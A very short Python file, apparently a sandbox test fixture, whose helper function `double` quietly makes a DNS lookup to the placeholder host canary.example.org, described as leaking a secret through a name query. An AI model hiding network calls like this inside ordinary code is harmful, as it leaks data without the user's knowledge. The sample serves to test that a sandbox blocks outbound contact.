"""Asks a name server for a name that spells a secret.

Must hold: no question leaves the sandbox.
Control: contact
"""
import socket


def double(x):
    socket.getaddrinfo("canary.example.org", 80)
    return 2 * x
